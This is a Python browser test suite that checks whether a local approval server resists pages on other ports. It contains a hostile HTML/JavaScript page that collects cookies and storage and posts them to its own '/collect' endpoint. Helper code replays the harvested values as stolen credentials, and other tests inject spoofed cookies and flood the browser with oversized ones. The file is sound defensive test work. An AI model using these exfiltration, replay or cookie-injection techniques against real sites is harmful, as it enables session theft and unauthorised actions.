"""Other programs on the machine have their own ports, and browsers send cookies to all of them. What is sent to such a
program, and what it sets, is of no use to it."""

import http.client
import json
import re

from selenium.webdriver.common.by import By

from browser_case import BrowserCase
from foreign_site import ForeignSite
from waiting import wait_until

# Requests subresources, tells its own server everything that a script can find, and tries to read ours.
CURIOUS_PAGE = """<title>curious</title>
<link rel="stylesheet" href="/style.css"><img src="/pixel.png"><iframe src="/frame"></iframe>
<script src="/script.js"></script>
<script>
  const ours = "%(address)s";
  const outcome = (work) => work.then((answer) => answer.text()).catch((error) => String(error));
  const tell = async () => {
    const found = {
      cookie: document.cookie, referrer: document.referrer, name: window.name, opener: String(window.opener),
      local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage),
      read: await outcome(fetch(ours + "/api/session", { credentials: "include" })),
      events: await new Promise((done) => {
        const source = new EventSource(ours + "/api/events", { withCredentials: true });
        source.onmessage = source.onerror = (event) => { source.close(); done(event.type); };
      }),
    };
    await fetch("/collect", { method: "POST", credentials: "include", body: JSON.stringify(found) });
    document.title = "collected";
  };
  tell();
</script>"""


class Ports(BrowserCase):
    def visit(self, site, path="/"):
        self.chromium.driver.get(site.address + path)

    def site(self, pages, cookies=()):
        site = ForeignSite(pages, cookies)
        self.addCleanup(site.close)
        return site

    def ask(self, method, path, headers, body=None):
        """Returns the answer's status and its first bytes, without using a browser."""
        connection = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=10)
        try:
            connection.request(method, path, body, headers)
            answer = connection.getresponse()
            return answer.status, answer.read1(65536).decode()
        finally:
            connection.close()

    def replay(self, request_id, stolen):
        """Tries every read and a decision with the headers `stolen`. Returns the answers that were still given."""
        headers = {**stolen, "Origin": self.server.address, "Sec-Fetch-Site": "same-origin"}
        answers = []
        for path in ("/api/session", "/api/requests", f"/api/requests/{request_id}", "/api/audit", "/api/events"):
            status, text = self.ask("GET", path, headers)
            learnt = re.search(r'"csrf":"([^"]+)"', text)
            if learnt:
                headers["X-ApproveKit-Token"] = learnt[1]
            answers.append((path, status))
        headers["Content-Type"] = "application/json"
        answers.append(("approve", self.ask("POST", f"/api/requests/{request_id}/approve", headers, "{}")[0]))
        return [answer for answer in answers if answer[1] not in (401, 403)]

    def loot(self, received):
        """Returns each set of headers that an attacker could make from it."""
        own = {"host", "connection", "content-length", "accept-encoding", "origin", "sec-fetch-site", "content-type"}
        for request in received:
            yield {name: value for name, value in request["headers"] if name.lower() not in own}
        words = set(re.findall(r"[A-Za-z0-9_.-]{16,}", json.dumps(received)))
        for word in sorted(words):
            yield {"Authorization": f"Bearer {word}"}
            yield {"X-ApproveKit-Token": word, "Cookie": f"approvekit_{self.server.port}={word}"}

    def secrets(self):
        """Returns everything that opens the server: its token, its link and what this browser keeps for its origin."""
        kept = self.chromium.driver.execute_script("return Object.values({...localStorage, ...sessionStorage});")
        return [self.server.token, self.server.link.split("=")[1], *" ".join(kept).split()]

    def test_H56_what_a_page_on_another_port_is_sent_opens_nothing(self):
        request_id = self.record.plant_request("delete_records")
        page = self.open_page()
        page.wait_for_cards(1)
        secrets = self.secrets()
        site = self.site({"/curious": CURIOUS_PAGE % {"address": self.server.address}, "/frame": "framed"})
        site_of_another_name = self.site({"/": f'<a href="{site.address}/curious">Win a prize</a>'})
        driver = self.chromium.driver

        # From the reviewer's own page, and by a link on a page of another site.
        page.run("""
            new Image().src = arguments[0] + "/from-the-page.png";
            const link = Object.assign(document.createElement("a"), { href: arguments[0] + "/curious" });
            document.body.append(link);
            link.click();""", site.address)
        wait_until(lambda: driver.title == "collected", "the curious page to have told everything")
        driver.get(f"http://localhost:{site_of_another_name.port}/")
        driver.find_element(By.TAG_NAME, "a").click()
        wait_until(lambda: driver.title == "collected", "the curious page to have told everything")

        print("\nThe second server received:")
        for request in site.received:
            print(" ", json.dumps(request))
        self.assertGreaterEqual(len(site.received), 8)
        for secret in secrets:
            self.assertNotIn(secret, json.dumps(site.received))
        opened = [answer for stolen in self.loot(site.received) for answer in self.replay(request_id, stolen)]
        self.assertEqual(opened, [])
        self.assertEqual(self.record.status(request_id), "pending")

    def test_H57_cookies_that_another_port_sets_do_not_sign_the_reviewer_out(self):
        page = self.open_page()
        for path in ("/", "/api", "/api/session", "/api/requests"):
            site = self.site({"/": "planted"}, [f"approvekit_{self.server.port}=evil; Path={path}"])
            self.visit(site)
        page = self.open_page()
        self.assertEqual(page.find("#who").text, "reviewing as ada")
        page.driver.refresh()
        page.wait_for_connection("live")

    def test_H57_as_many_cookies_as_a_browser_keeps_do_not_stop_the_page(self):
        self.visit(self.site({"/": "planted"}, [f"c{number}={'x' * 3900}; Path=/" for number in range(10)]))
        self.chromium.devtools("Network.setCookies", cookies=[
            {"name": f"d{number}", "value": "x" * 4000, "url": self.server.address} for number in range(160)])
        self.assertGreaterEqual(len(self.chromium.devtools("Network.getAllCookies")["cookies"]), 150)
        request_id = self.record.plant_request("send_email")
        page = self.open_page()
        card = page.wait_for_card("send_email")
        page.driver.refresh()
        page.wait_for_connection("live")
        card = page.wait_for_card("send_email")
        card.press("approve")
        card.wait_for_outcome("Approved by you")
        self.assertEqual(self.record.status(request_id), "approved")
